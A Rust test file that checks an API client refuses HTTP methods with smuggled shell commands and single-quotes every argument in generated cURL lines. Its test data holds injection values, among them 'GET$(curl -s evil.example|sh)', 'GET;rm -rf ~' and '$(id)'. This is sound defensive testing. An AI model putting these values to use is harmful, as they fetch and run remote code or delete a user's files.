//! Shared material is untrusted (DESIGN.md, "Trust model"): what a teammate's collection,
//! a Postman file or a spec may not do to the machine that opens it.

use vouch::exchange::{self, Source};
use vouch::request::{Draft, Environment};
use vouch::store::Store;

use crate::util::load;

/// A method is an HTTP token: an import naming `GET$(…)` is refused, a draft with one is not
/// sent, and every cURL argument is single-quoted.
#[test]
fn a_method_cannot_smuggle_a_command_into_a_curl_line() {
    let postman = br#"{"info": {"name": "evil", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
        "item": [{"name": "x", "request": {"method": "GET$(curl -s evil.example|sh)", "url": "http://127.0.0.1/x"}}]}"#;
    let bundle = exchange::import_bytes(postman, "evil.json", Source::Postman).expect("parses");
    let dir = tempfile::tempdir().expect("tmp");
    let mut store = Store::open(dir.path()).expect("store");
    let e = exchange::into_store(&mut store, &bundle, false).expect_err("refused");
    assert!(e.to_string().contains("is not an HTTP method"), "{e}");
    assert!(
        store.collections().expect("list").is_empty(),
        "nothing written"
    );

    let spec = load(&crate::util::spec_path("oai-examples/v3.0/petstore.yaml")).expect("spec");
    let draft = Draft {
        method: "GET;rm -rf ~".into(),
        path: "/pets".into(),
        base_url: Some("http://127.0.0.1:9".into()),
        ..Draft::default()
    };
    let e =
        vouch::request::prepare(&spec, None, &draft, &Environment::default()).expect_err("refused");
    assert!(e.to_string().contains("is not an HTTP method"), "{e}");

    let line = exchange::curl_line(
        "GET",
        "http://x/a'b",
        &[("X-A".into(), "$(id)".into())],
        Some("`id`"),
    );
    assert_eq!(
        line,
        "curl -X 'GET' 'http://x/a'\\''b' \\\n  -H 'X-A: $(id)' \\\n  --data-raw '`id`'"
    );
}
